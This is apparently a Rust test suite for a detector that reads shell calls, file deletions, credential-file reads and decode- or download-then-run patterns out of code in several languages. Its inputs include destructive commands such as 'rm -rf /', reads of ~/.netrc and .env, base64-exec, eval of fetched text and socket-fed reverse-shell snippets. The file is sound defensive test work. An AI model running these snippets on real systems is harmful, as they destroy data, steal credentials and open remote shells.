//! Calls in programs of other languages.

use super::*;

fn calls(language: Language, text: &str) -> Vec<CodeCall> {
    read(language, text).calls
}

fn script(text: &str) -> CodeCall {
    CodeCall::Script(text.to_owned())
}

fn words(words: &[&str]) -> CodeCall {
    CodeCall::Words(words.iter().map(|word| Some((*word).to_owned())).collect())
}

fn path(path: &str, op: PathOp, recursive: bool) -> CodeCall {
    CodeCall::Path { path: path.to_owned(), op, recursive }
}

#[test]
fn literal_commands_are_read() {
    assert_eq!(calls(Language::Python, "import os; os.system('rm -rf /')"), [script("rm -rf /")]);
    assert_eq!(
        calls(Language::Python, "subprocess.run(['rm', '-rf', \"/\"], check=True)"),
        [words(&["rm", "-rf", "/"])]
    );
    assert_eq!(
        calls(Language::Node, "require('child_process').execSync(\"git push -f\")"),
        [script("git push -f")]
    );
    assert_eq!(calls(Language::Node, "spawn('rm', ['-rf', 'x'])"), [words(&["rm", "-rf", "x"])]);
    assert_eq!(calls(Language::Perl, "system 'ls'; `pwd`"), [script("ls"), script("pwd")]);
    assert_eq!(calls(Language::Php, "shell_exec('id');"), [script("id")]);
    assert_eq!(calls(Language::Awk, "BEGIN { system(\"rm x\") }"), [script("rm x")]);
}

#[test]
fn literal_paths_are_read() {
    let text = "shutil.rmtree('/x'); open('a', 'w').write(open('b').read()); Path('c').unlink()";
    assert_eq!(
        calls(Language::Python, text),
        [
            path("/x", PathOp::Delete, true),
            path("a", PathOp::Write, false),
            path("b", PathOp::Read, false),
            path("c", PathOp::Delete, false),
        ]
    );
    assert_eq!(
        calls(Language::Node, "fs.rmSync('x', {recursive: true})"),
        [path("x", PathOp::Delete, true)]
    );
    assert_eq!(calls(Language::Ruby, "FileUtils.rm_rf '/x'"), [path("/x", PathOp::Delete, true)]);
    assert_eq!(calls(Language::Perl, "open(F, '>x')"), [path("x", PathOp::Write, false)]);
}

#[test]
fn what_cannot_be_read_is_dynamic() {
    assert!(read(Language::Python, "os.system(cmd)").dynamic);
    assert!(read(Language::Python, "os.system('rm ' + x)").dynamic);
    assert!(read(Language::Node, "exec(`rm ${x}`)").dynamic);
    assert!(!read(Language::Python, "print('os')").dynamic);
}

#[test]
fn variables_and_expressions_of_paths_are_read() {
    let home = |rest: &str| [path(rest, PathOp::Read, false)];
    for text in [
        "p = '~/.netrc'\nopen(os.path.expanduser(p))",
        "open(os.environ['HOME'] + '/.netrc')",
        "(Path.home() / '.netrc').read_text()",
        "p: Path = Path.home() / '.netrc'\np.read_text()",
        "open(os.path.join(os.path.expanduser('~'), \".netrc\"))",
        "name = '.netrc'; Path('~', name).expanduser().read_text()",
    ] {
        assert_eq!(calls(Language::Python, text), home("~/.netrc"), "{text}");
    }
    let text = "const p = os.homedir() + '/.netrc'; fs.readFileSync(p, 'utf8')";
    assert_eq!(calls(Language::Node, text), home("~/.netrc"));
    let text = "fs.readFileSync(path.join(process.env.HOME, '.netrc'))";
    assert_eq!(calls(Language::Node, text), home("~/.netrc"));
    assert_eq!(calls(Language::Ruby, "File.read(File.expand_path('~/.netrc'))"), home("~/.netrc"));
    // What is not literal is not guessed.
    assert_eq!(calls(Language::Python, "p = f'{x}/a'\nopen(p)"), []);
    assert_eq!(calls(Language::Python, "p = '/a' if x else '/b'\nopen(p)"), []);
    assert_eq!(calls(Language::Python, "open(sys.argv[1])"), []);
}

#[test]
fn what_is_decoded_or_downloaded_and_then_run_is_found() {
    let runs = |language, text| {
        let facts = read(language, text);
        (facts.runs_decoded, facts.runs_download)
    };
    for (text, expected) in [
        ("exec(base64.b64decode(x))", (true, false)),
        ("c = base64.b64decode(x)\nd = c.decode()\nos.system(d)", (true, false)),
        ("exec(requests.get(u).text)", (false, true)),
        ("print(base64.b64decode(x)); os.system(cmd)", (false, false)),
        ("subprocess.run(['git', 'commit', '-m', base64.b64decode(x)])", (false, false)),
        ("subprocess.run(['bash', '-c', base64.b64decode(x)])", (true, false)),
        ("subprocess.run(base64.b64decode(x), shell=False)", (false, false)),
        ("model.eval(base64.b64decode(x))", (false, false)),
    ] {
        assert_eq!(runs(Language::Python, text), expected, "{text}");
    }
    assert_eq!(runs(Language::Node, "fetch(u).then(r => r.text()).then(eval)"), (false, true));
    assert_eq!(runs(Language::Perl, "eval decode_base64($x)"), (true, false));
    assert_eq!(runs(Language::Ruby, "eval \"YQ==\".unpack1(\"m\")"), (true, false));
    assert_eq!(runs(Language::Php, "include 'https://example.com/a';"), (false, true));
    let text =
        "https.get(u, r => { let d = ''; r.on('data', c => d += c).on('end', () => eval(d)) })";
    assert_eq!(runs(Language::Node, text), (false, true));
}

#[test]
fn brackets_in_brackets_do_not_take_long() {
    let text = format!("os.system({}", "([".repeat(30_000));
    assert!(read(Language::Python, &text).dynamic);
    let text = "os.system((((((((".repeat(4_000);
    assert!(read(Language::Python, &text).dynamic);
}

#[test]
fn commands_in_pipes_of_awk_are_read() {
    let text = "BEGIN { \"ls\" | getline; print | \"sort\"; if (a || b) print \"x\" }";
    assert_eq!(calls(Language::Awk, text), [script("ls"), script("sort")]);
    let text = r#"{ print | "sh -c \"rm a\"" }"#;
    assert_eq!(calls(Language::Awk, text), [script("sh -c 'rm a'")]);
    let text = "$1 > \"a\" { print > \"b\"; print \"c\", $2 >> \"d\"; x = y > \"e\" }";
    let write = |path: &str| {
        let (path, op) = (path.to_owned(), PathOp::Write);
        CodeCall::Path { path, op, recursive: false }
    };
    assert_eq!(calls(Language::Awk, text), [write("b"), write("d")]);
}

#[test]
fn the_words_of_programs_begin_with_their_names() {
    for text in [
        "os.execvp('rm', ['rm', '-rf', 'a'])",
        "os.execl('rm', 'x', '-rf', 'a')",
        "os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', 'a')",
    ] {
        assert_eq!(calls(Language::Python, text), [words(&["rm", "-rf", "a"])], "{text}");
    }
    let unknown = CodeCall::Words(vec![Some("a".to_owned()), None]);
    assert_eq!(calls(Language::Python, "os.execv('a', args)"), [unknown]);
}

#[test]
fn copies_read_one_file_and_write_another_also_in_a_directory() {
    let transfer = |op, is_tree| {
        let write = |name| path(name, PathOp::Write, false);
        let target = path("b", PathOp::Write, is_tree);
        [path("a", op, op == PathOp::Move), target, write("b/a")]
    };
    let copy = transfer(PathOp::Read, false);
    assert_eq!(calls(Language::Python, "shutil.copy('a', 'b')"), copy);
    assert_eq!(calls(Language::Python, "shutil.copy(dst='b', src='a')"), copy);
    assert_eq!(calls(Language::Node, "fs.cpSync('a', 'b')"), copy);
    assert_eq!(calls(Language::Ruby, "FileUtils.cp 'a', 'b'"), copy);
    assert_eq!(calls(Language::Ruby, "IO.copy_stream('a', 'b')"), copy);
    let tree = transfer(PathOp::Read, true);
    assert_eq!(calls(Language::Python, "shutil.copytree('a', 'b', dirs_exist_ok=True)"), tree);
    let rename = transfer(PathOp::Move, false);
    assert_eq!(calls(Language::Php, "rename('a', 'b');"), rename);
    assert_eq!(calls(Language::Python, "Path('a').replace(target='b')"), rename);
    assert_eq!(calls(Language::Python, "'a'.replace('b', 'c')"), []);
}

#[test]
fn arguments_may_have_their_names() {
    let expected = [path("/x", PathOp::Delete, true)];
    assert_eq!(calls(Language::Python, "shutil.rmtree(path='/x', ignore_errors=True)"), expected);
    let expected = [path("/x", PathOp::Write, false)];
    assert_eq!(calls(Language::Python, "open(file='/x', mode='w')"), expected);
    let expected = [CodeCall::Script("rm x".to_owned())];
    assert_eq!(calls(Language::Python, "subprocess.run(args='rm x', shell=True)"), expected);
}

#[test]
fn imports_under_another_name_are_read() {
    let expected = [path("/x", PathOp::Delete, true)];
    assert_eq!(calls(Language::Python, "from shutil import rmtree as r; r('/x')"), expected);
    let text = "import {rmSync as r} from 'fs'; r('/x')";
    assert_eq!(calls(Language::Node, text), expected);
    let expected = [path("/x/y", PathOp::Delete, false)];
    let text = "from pathlib import Path as P; P('/x', 'y').unlink()";
    assert_eq!(calls(Language::Python, text), expected);
    let text = "from os import path as p, unlink; os.unlink(p.join('/x', 'y'))";
    assert_eq!(calls(Language::Python, text), expected);
    for import in ["const fs = a, p = require('node:path')", "import p from \"path\""] {
        let text = format!("{import}; fs.unlinkSync(p.join('/x', 'y'))");
        assert_eq!(calls(Language::Node, &text), expected, "{text}");
    }
    for import in [
        "import {join as j} from 'path'; fs.unlinkSync(j('/x', 'y'))",
        "const {join: j} = require('path'); fs.unlinkSync(j('/x', 'y'))",
        "const {join} = require('path'); fs.unlinkSync(join('/x', 'y'))",
        "fs['unlinkSync'](path.resolve('/x', 'y'))",
    ] {
        assert_eq!(calls(Language::Node, import), expected, "{import}");
    }
    let text = "from os.path import join as j, expanduser as e; os.unlink(j(e('/x'), 'y'))";
    assert_eq!(calls(Language::Python, text), expected);
    let text = "getattr(__import__('os'), 'system')('rm a')";
    assert_eq!(calls(Language::Python, text), [script("rm a")]);
    assert_eq!(calls(Language::Node, "fs.unlinkSync(p.join('/x', 'y'))"), []);
    assert_eq!(calls(Language::Node, "fs.unlinkSync(join('/x', 'y'))"), []);
}

#[test]
fn expressions_in_texts_are_read() {
    let expected = [path("~/.netrc", PathOp::Read, false)];
    for text in [
        "h = os.environ['HOME']; open(f'{h}/.netrc')",
        "codecs.open(os.path.expandvars('$HOME/.netrc'))",
        "Path.home().joinpath('.netrc').read_text()",
        "linecache.getlines(__import__('os').path.expanduser('~/.netrc'))",
    ] {
        assert_eq!(calls(Language::Python, text), expected, "{text}");
    }
    for text in [
        "fs.readFileSync(`${process.env.HOME}/.netrc`)",
        "fs.readFileSync(require('path').join(require('os').homedir(), '.netrc'))",
        "Deno.readTextFileSync(process.env['HOME'] + '/.netrc')",
    ] {
        assert_eq!(calls(Language::Node, text), expected, "{text}");
    }
    assert_eq!(calls(Language::Ruby, "IO.read(\"#{Dir.home}/.netrc\")"), expected);
    assert_eq!(calls(Language::Php, "readfile(getenv('HOME').'/.netrc');"), expected);
    assert_eq!(calls(Language::Python, "open(f'{{a}}{x}')"), []);
}

#[test]
fn quotes_by_letters_and_commands_in_marks_are_read() {
    let expected = [words(&["git", "push", "-f"])];
    assert_eq!(calls(Language::Perl, "exec qw(git push -f)"), expected);
    assert_eq!(calls(Language::Ruby, "system(*%w[git push -f])"), expected);
    assert_eq!(calls(Language::Perl, "system q(ls); print qx{pwd}"), [script("ls"), script("pwd")]);
    assert_eq!(calls(Language::Ruby, "%x(ls)"), [script("ls")]);
    assert_eq!(calls(Language::Node, "Bun.$`ls`; `pwd`"), [script("ls")]);
    assert_eq!(calls(Language::Perl, "unlink glob \"/x/*\""), [path("/x", PathOp::Delete, true)]);
}

#[test]
fn what_perl_opens_is_read() {
    let expected = [path("a", PathOp::Read, false)];
    for text in ["open F, \"<a\" or die;", "open my $f, '<', 'a'", "open(F, 'a')"] {
        assert_eq!(calls(Language::Perl, text), expected, "{text}");
    }
    for text in ["open(F, 'ls |')", "open(F, '| ls')", "open my $f, '-|', 'ls'"] {
        assert_eq!(calls(Language::Perl, text), [script("ls")], "{text}");
    }
    let text = "BEGIN { while ((getline l < \"a\") > 0) print l; if (x < \"b\") print }";
    assert_eq!(calls(Language::Awk, text), expected);
}

#[test]
fn words_and_texts_that_are_put_together_are_read() {
    let expected = [words(&["git", "push", "-f"])];
    for text in [
        "subprocess.run('git push -f'.split())",
        "subprocess.run(shlex.split('git push -f'))",
        "subprocess.run(args=['git', 'push', '-f'])",
    ] {
        assert_eq!(calls(Language::Python, text), expected, "{text}");
    }
    for text in [
        "os.system('git push %s' % '-f')",
        "os.system('git %s %s' % ('push', '-f'))",
        "os.system('git {} {}'.format('push', '-f'))",
        "os.system(' '.join(['git', 'push', '-f']))",
        "os.system('git ' 'push -f')",
    ] {
        assert_eq!(calls(Language::Python, text), [script("git push -f")], "{text}");
    }
    // Libraries for git.
    assert_eq!(calls(Language::Python, "git.Repo('.').git.push('-f')"), expected);
    assert_eq!(calls(Language::Node, "git.push(['-f'])"), expected);
    assert_eq!(calls(Language::Node, "require('simple-git')().push(['-f'])"), expected);
    let text = "__import__('subprocess').run(['git', 'push', '-f'])";
    assert_eq!(calls(Language::Python, text), expected);
    assert_eq!(calls(Language::Node, "git.raw('push', '-f')"), expected);
    let text = "execSync(['git', 'push', '-f'].join(' '))";
    assert_eq!(calls(Language::Node, text), [script("git push -f")]);
    let text = "const {execSync: x} = require('child_process'); x('ls')";
    assert_eq!(calls(Language::Node, text), [script("ls")]);
    assert_eq!(calls(Language::Php, "passthru('ls '.getenv('HOME'));"), [script("ls ~")]);
}

#[test]
fn files_that_perl_lists_are_deleted() {
    let expected = [path("/x", PathOp::Delete, true)];
    for text in [
        "unlink for glob('/x/*')",
        "find(sub { unlink $_ }, '/x')",
        "unlink </x/*>",
        "unlink while </x/*>",
    ] {
        assert_eq!(calls(Language::Perl, text), expected, "{text}");
    }
}

#[test]
fn listed_files_that_a_program_reads_are_read() {
    for (text, file, recursive) in [
        ("[open(f).read() for f in glob.glob('/x/a*')]", "/x/a*", false),
        ("for f in os.listdir('/x'): print(open(d + f).read())", "/x", true),
        ("[p.read_text() for p in Path('/x').iterdir()]", "/x", true),
    ] {
        let expected = path(file, PathOp::Read, recursive);
        assert!(calls(Language::Python, text).contains(&expected), "{text}");
    }
    assert_eq!(calls(Language::Python, "os.listdir('/x'); open('a').read()").len(), 1);
    let text = "foreach (new RecursiveDirectoryIterator('/x') as $f) unlink($f);";
    assert_eq!(calls(Language::Php, text), [path("/x", PathOp::Delete, true)]);
}

#[test]
fn limits_are_seen() {
    let is_limited = |language, text: &str| read(language, text).over_limit;
    let long = "x".repeat(5000);
    for text in [
        "open('a'); ".repeat(300),
        format!("os.system('{long}')"),
        format!("os.system({} 'rm a')", " ".repeat(5000)),
        format!("os.remove({} 'a')", " ".repeat(5000)),
        format!("subprocess.run([{}'rm'])", "'a', ".repeat(70)),
        format!("os.system({}'rm a'{})", "(".repeat(20), ")".repeat(20)),
    ] {
        assert!(is_limited(Language::Python, &text), "{text:.40}");
    }
    for text in [
        format!("pathlib.Path('a').write_text('{long}')"),
        format!("open('a', 'w').write('{long}')"),
        format!("subprocess.run(['cat'], input='{long}')"),
        format!("x = '{long}'\nprint(x)"),
        "p = 'a'\nopen(p)\n".repeat(100),
    ] {
        assert!(!is_limited(Language::Python, &text), "{text:.40}");
    }
    // Each sign that runs a text is read, however many are before it.
    let script = [CodeCall::Script("rm a".to_owned())];
    for (language, before, last) in [
        (Language::Perl, "$x = qq{};\n", "`rm a`"),
        (Language::Awk, "x = \"\"; ", "\"rm a\" | getline"),
        (Language::Other, "x = \"\"; ", "\"rm a\".execute()"),
        (Language::Python, "x = 1\n", "!rm a"),
    ] {
        let text = before.repeat(600) + last;
        assert_eq!(read(language, &text).calls, script, "{last}");
    }
}

#[test]
fn words_are_collected() {
    let words = |language, text: &str| match calls(language, text).into_iter().next() {
        Some(CodeCall::Words(words)) => words.into_iter().flatten().collect::<Vec<_>>().join(" "),
        call => panic!("{text}: {call:?}"),
    };
    for (language, text) in [
        (Language::Python, "c = ['rm']; c.append('a'); c += ['b']\nsubprocess.run(c)"),
        (Language::Python, "c = ['rm', 'a']\nc.extend(['b'])\nsubprocess.check_call(c)"),
        (Language::Perl, "@c = ('rm', 'a'); push @x, 1; system(@c)"),
        (Language::Other, "Command::new(\"rm\").arg(\"a\").args([\"b\"]).status()"),
        (Language::Other, "Command::new(\"rm\")\n.args(&[\"a\", \"b\"])\n.spawn()"),
        (Language::Other, "new ProcessBuilder(\"rm\", \"a\", \"b\").start()"),
        (Language::Other, "(sh \"rm\" \"a\" (str \"b\"))"),
        (Language::Other, "execlp(\"rm\", \"rm\", \"a\", \"b\", NULL)"),
    ] {
        let command = words(language, text);
        assert!(command.starts_with("rm a"), "{text}: {command}");
    }
}

#[test]
fn objects_decide_what_a_call_with_a_common_name_does() {
    let deletes =
        |path: &str| CodeCall::Path { path: path.to_owned(), op: PathOp::Delete, recursive: true };
    assert_eq!(calls(Language::Node, "require('rimraf').sync('/a')"), [deletes("/a")]);
    assert_eq!(calls(Language::Node, "require('child_process').exec('ls')"), [script("ls")]);
    assert_eq!(
        calls(Language::Node, "db.exec('drop table a')"),
        [CodeCall::Sql("drop table a".to_owned())]
    );
    assert_eq!(
        calls(Language::Php, "$db->exec('drop table a');"),
        [CodeCall::Sql("drop table a".to_owned())]
    );
    assert_eq!(calls(Language::Php, "exec('ls');"), [script("ls")]);
    assert_eq!(calls(Language::Ruby, "Dir['/a/*'].each { |f| File.delete f }"), [deletes("/a")]);
    assert_eq!(
        calls(Language::Other, "read(\".env\", String)"),
        [path(".env", PathOp::Read, false)]
    );
    assert_eq!(calls(Language::Ruby, "rm_rf File.expand_path('/a')"), [deletes("/a")]);
    assert_eq!(
        calls(Language::Python, "c = ConfigParser(); c.read('a')"),
        [path("a", PathOp::Read, false)]
    );
    assert_eq!(calls(Language::Perl, "chmod 0644, \"a\""), []);
    assert_eq!(
        calls(Language::Perl, "open F, \">>$ENV{HOME}/a\""),
        [path("~/a", PathOp::Write, false)]
    );
    assert!(read(Language::Perl, "system decode_base64(\"bHM=\")").runs_decoded);
    assert!(read(Language::Other, "os.execute(s:receive())").runs_download);
}

#[test]
fn functions_that_are_passed_get_the_texts_of_their_statement() {
    for (language, text) in [
        (Language::Php, "array_map(\"system\", [\"rm a\"]);"),
        (Language::Php, "$x = 1; call_user_func('system', 'rm a'); echo 2;"),
        (Language::Php, "array_filter(['rm a'], 'exec');"),
        (Language::Python, "list(map(__import__('os').system, ['rm a']))"),
        (Language::Node, "['rm a'].forEach(require(\"child_process\").execSync)"),
        (Language::Ruby, "Kernel.send(:system, 'rm a')"),
        (Language::Ruby, "['rm a'].map(&method(:system))"),
        (Language::Ruby, "['rm a'].each { |c| system c }"),
        (Language::Perl, "map { system } ('rm a');"),
    ] {
        assert!(read(language, text).dynamic, "{text}");
    }
    for (language, text, op) in [
        (Language::Php, "array_map('unlink', ['a']); f('b');", PathOp::Delete),
        (Language::Python, "list(map(os.remove, ['a']))\nf('b')", PathOp::Delete),
        (Language::Php, "array_map('readfile', ['a']);", PathOp::Read),
        (Language::Ruby, "['a'].map(&File.method(:read))", PathOp::Read),
        (Language::Python, "f('b')\nfor p in ['a']: print(open(p).read())", PathOp::Read),
        (Language::Node, "['a'].forEach(f => fs.readFileSync(f)); f('b')", PathOp::Read),
        (Language::Php, "foreach (['a'] as $f) unlink($f);", PathOp::Delete),
    ] {
        let mut calls = calls(language, text);
        calls.dedup();
        assert_eq!(calls, [path("a", op, false)], "{text}");
    }
}

#[test]
fn functions_with_another_name_are_called_by_it() {
    for (language, text) in [
        (Language::Php, "$f = \"system\"; $f(\"rm a\");"),
        (Language::Python, "f = os.system\nf('rm a')"),
        (Language::Python, "import subprocess\nr = subprocess.run\nr('rm a', shell=True)"),
        (Language::Ruby, "open('|rm a')"),
    ] {
        assert_eq!(calls(language, text), [script("rm a")], "{text}");
    }
}

#[test]
fn words_that_are_names_of_functions_are_no_functions() {
    for (language, text) in [
        (Language::Php, "$a = ['system' => 'rm a'];"),
        (Language::Php, "f(\"the system\", 'rm a');"),
        (Language::Python, "f = 'system'\nf('rm a')"),
        (Language::Python, "f(run, 'rm a')"),
        (Language::Python, "if name in ['a']: f(open(name))"),
        (Language::Ruby, "f(system: 'rm a')"),
        (Language::Node, "['a'].map(f => f + 'b')"),
    ] {
        let facts = read(language, text);
        assert!(facts.calls.is_empty() && !facts.dynamic, "{text}");
    }
}

#[test]
fn calls_of_classes_in_powershell_are_read() {
    let text = "[IO.File]::Delete('a'); [System.IO.StreamReader]::new('b'); $x.Delete('c')";
    let expected = [path("a", PathOp::Delete, true), path("b", PathOp::Read, false)];
    assert_eq!(calls(Language::Powershell, text), expected);
}

#[test]
fn a_shell_that_a_connection_feeds_runs_a_download() {
    for (language, text) in [
        (
            Language::Node,
            "require('net').connect(9, 'a', function () { this.pipe(cp.spawn('sh', ['-i']).stdin) })",
        ),
        (Language::Perl, "$c = IO::Socket::INET->new('a:9'); while (<$c>) { system $_ }"),
        (Language::Python, "s = socket.socket(); subprocess.call(['/bin/sh', '-i'])"),
        (Language::Php, "$s = fsockopen('a', 9); exec('sh <&3 >&3');"),
    ] {
        assert!(read(language, text).runs_download, "{text}");
    }
    for (language, text) in [
        (Language::Node, "cp.spawn('sh', ['-i'])"),
        (Language::Python, "s = socket.socket(); subprocess.call(['sh', 'build.sh'])"),
    ] {
        assert!(!read(language, text).runs_download, "{text}");
    }
}
